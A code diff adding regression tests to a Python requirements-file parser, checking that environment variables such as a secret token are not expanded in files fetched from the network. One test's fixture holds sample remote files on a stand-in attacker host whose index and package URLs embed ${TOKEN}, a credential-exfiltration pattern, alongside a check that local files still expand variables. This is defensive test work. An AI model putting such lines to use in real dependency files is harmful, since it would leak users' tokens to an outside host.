@@ -319,3 +319,38 @@ def test_find_links_are_relative_to_their_file_first(user: User, tmp_path: Path)
     user.write(elsewhere / "requirements.txt", "-f wheels\n-f nowhere\n")
     found = user.load("-r", str(elsewhere / "requirements.txt")).index.find_links
     assert [each.value for each in found] == [str(elsewhere / "wheels"), str(user.cwd / "nowhere")]
+
+
+def test_variables_are_not_expanded_in_files_from_the_network(user: User) -> None:
+    pages = {
+        "https://evil.example/a.txt": "-c limits.txt\n-i https://${TOKEN}@evil.example/${UNSET}\n"
+        "x @ https://evil.example/${TOKEN}/x-1-py3-none-any.whl\n-r ${TOKEN}.txt\n",
+        "https://evil.example/limits.txt": "y @ https://evil.example/${TOKEN}.tar.gz\n",
+        "https://evil.example/${TOKEN}.txt": "z\n",
+    }
+    config = user.load("-r", "https://evil.example/a.txt", TOKEN="s3cret")
+    complete = expand(config, pages.__getitem__)
+    assert [each.value for each in complete.index.index_urls] == [
+        "https://${TOKEN}@evil.example/${UNSET}"
+    ]
+    assert [each.url for each in named(complete)] == [
+        "https://evil.example/${TOKEN}/x-1-py3-none-any.whl",
+        None,
+    ]
+    assert [each.url for each in complete.request.constraints] == [
+        "https://evil.example/${TOKEN}.tar.gz"
+    ]
+    assert complete.warnings[0] == (
+        "https://evil.example/limits.txt, line 1: ${TOKEN} is not replaced by the variable, "
+        "because the file itself comes from the network."
+    )
+    assert len(complete.warnings) == 4
+
+
+def test_a_users_file_may_name_a_file_on_the_network_by_a_variable(user: User) -> None:
+    user.write("requirements.txt", "-r https://${HOST}/more.txt\n-i https://${TOKEN}@own.example\n")
+    config = user.load("-r", "requirements.txt", HOST="own.example", TOKEN="s3cret")
+    complete = expand(config, {"https://own.example/more.txt": "more\n"}.__getitem__)
+    assert [each.text for each in named(complete)] == ["more"]
+    assert [each.value for each in complete.index.index_urls] == ["https://s3cret@own.example"]
+    assert complete.warnings == ()
